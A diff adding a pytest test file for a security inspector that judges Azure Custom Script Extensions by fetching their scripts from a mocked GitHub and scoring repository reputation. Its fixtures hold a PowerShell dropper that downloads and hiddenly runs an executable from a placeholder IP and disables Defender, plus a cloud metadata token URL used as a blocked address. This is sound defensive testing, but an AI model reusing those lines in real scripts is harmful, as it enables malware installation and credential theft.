@@ -1,0 +1,128 @@
+"""Through the whole pipeline: a Custom Script Extension whose fileUris point at a fake GitHub.
+
+raw.githubusercontent.com and api.github.com are mapped to local servers in closed-network
+mode; the verdict must carry the fetch records, the fetched artifacts, their unpacked members,
+the repository reputation, and say when something could not be fetched.
+"""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+import pytest
+from aiohttp import web
+
+from inspector.extensions.request import InputKind, InspectionInput
+from inspector.pipeline import Inspector
+from tests.fetch.support import (
+    REALISTIC_NAMES,
+    FakeGitHub,
+    closed_settings,
+    github_repo_json,
+    github_user_json,
+    start_app,
+    zip_bytes,
+)
+
+DROPPER = (b"$wc = New-Object System.Net.WebClient\r\n"
+           b"$wc.DownloadFile('http://203.0.113.50:8080/svc.exe', \"$env:TEMP\\svc.exe\")\r\n"
+           b"Start-Process \"$env:TEMP\\svc.exe\" -WindowStyle Hidden\r\n"
+           b"Set-MpPreference -DisableRealtimeMonitoring $true\r\n")
+HARMLESS = b"Install-WindowsFeature -Name Web-Server -IncludeManagementTools\r\n"
+
+
+@pytest.fixture
+async def raw_github() -> AsyncIterator[int]:
+    """raw.githubusercontent.com: a dropper in a new repository, a template in an old one, a DSC zip."""
+    files = {
+        "/mallory/payloads/main/install.ps1": DROPPER,
+        "/contoso/templates/master/iis.ps1": HARMLESS,
+        "/contoso/templates/master/dsc/cfg.ps1.zip": zip_bytes({"cfg.ps1": HARMLESS, "mod/evil.ps1": DROPPER}),
+    }
+
+    async def serve(request: web.Request) -> web.StreamResponse:
+        body = files.get(request.path)
+        return web.Response(body=body) if body is not None else web.Response(status=404)
+
+    app = web.Application()
+    app.router.add_get("/{tail:.*}", serve)
+    runner, port = await start_app(app)
+    yield port
+    await runner.cleanup()
+
+
+@pytest.fixture
+async def inspector(fake_github: FakeGitHub) -> AsyncIterator[Inspector]:
+    fake_github.repos["mallory/payloads"] = github_repo_json("mallory", "payloads", age_days=2)
+    fake_github.users["mallory"] = github_user_json("mallory", age_days=5, public_repos=1)
+    fake_github.repos["contoso/templates"] = github_repo_json("contoso", "templates", age_days=2500, stars=900, forks=300)
+    fake_github.users["contoso"] = github_user_json("contoso", age_days=4000, public_repos=120)
+    settings = closed_settings(github_api_url=fake_github.api_url,
+                               fetch_hosts={name: "127.0.0.1" for name in REALISTIC_NAMES})
+    inspector = await Inspector.start(settings, workers=0, fetching=True)
+    yield inspector
+    await inspector.close()
+
+
+def cse(*file_uris: str, command: str = "powershell -ExecutionPolicy Unrestricted -File install.ps1") -> InspectionInput:
+    return InspectionInput(kind=InputKind.EXTENSION, body={"properties": {
+        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
+        "settings": {"fileUris": list(file_uris)}, "protectedSettings": {"commandToExecute": command}}})
+
+
+async def test_an_entry_point_in_a_days_old_repository_is_fetched_judged_and_alerted(
+    inspector: Inspector, raw_github: int
+) -> None:
+    url = f"http://raw.githubusercontent.com:{raw_github}/mallory/payloads/main/install.ps1"
+    verdict = (await inspector.inspect(cse(url))).verdict
+    [record] = [f for f in verdict.fetches if f.url == url]
+    assert record.fetched and record.status == 200 and record.bytes == len(DROPPER)
+    fetched = [a for a in verdict.artifacts if a.fetch is not None and a.fetch.sha256 == record.sha256]
+    assert fetched and fetched[0].origin == "settings.fileUris[0]" and fetched[0].url == url
+    reputation = {f.id for f in verdict.findings if f.source == "reputation"}
+    assert {"reputation.github.new_repo", "reputation.github.new_owner"} <= reputation
+    assert "VM_CustomScriptExtensionSuspiciousEntryPoint" in {a.alertType for a in verdict.alerts}
+    assert verdict.verdict != "clean"
+
+
+async def test_a_long_standing_template_repository_is_not_an_indicator(
+    inspector: Inspector, raw_github: int
+) -> None:
+    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/iis.ps1"
+    verdict = (await inspector.inspect(cse(url, command="powershell -File iis.ps1"))).verdict
+    assert [f.fetched for f in verdict.fetches] == [True]
+    # (the test server's port is the only URL signal: real raw.githubusercontent.com uses 443)
+    assert {f.id for f in verdict.findings if f.source == "reputation"} == {"reputation.url.unusual_port"}
+    assert not {a.alertType for a in verdict.alerts} & {"VM_CustomScriptExtensionSuspiciousEntryPoint",
+                                                         "VM_CustomScriptExtensionSuspiciousPayload"}
+
+
+async def test_a_fetched_zip_is_unpacked_into_member_artifacts(inspector: Inspector, raw_github: int) -> None:
+    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/dsc/cfg.ps1.zip"
+    verdict = (await inspector.inspect(cse(url, command="powershell -File cfg.ps1"))).verdict
+    origins = {a.origin for a in verdict.artifacts}
+    assert {"zip:cfg.ps1", "zip:mod/evil.ps1"} <= origins
+
+
+async def test_a_payload_that_cannot_be_fetched_makes_the_verdict_incomplete(
+    inspector: Inspector, raw_github: int
+) -> None:
+    missing = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/gone.ps1"
+    blocked = "http://169.254.169.254/metadata/identity/oauth2/token"
+    verdict = (await inspector.inspect(cse(missing, blocked))).verdict
+    errors = {f.url: f.error for f in verdict.fetches}
+    assert errors[missing] == "http_error" and errors[blocked] == "blocked_address"
+    assert verdict.complete is False
+    assert {e.kind for e in verdict.errors} >= {"fetch_failed"}
+
+
+async def test_offline_signals_reach_the_verdict_without_fetching(fake_github: FakeGitHub, raw_github: int) -> None:
+    settings = closed_settings(fetch=False, github_api_url=fake_github.api_url)
+    inspector = await Inspector.start(settings, workers=0, fetching=False)
+    try:
+        verdict = (await inspector.inspect(cse("https://abcd-1-2.ngrok-free.app/install.ps1"))).verdict
+    finally:
+        await inspector.close()
+    assert "reputation.url.tunnel" in {f.id for f in verdict.findings}
+    assert verdict.complete is False and fake_github.hits == []
+
+
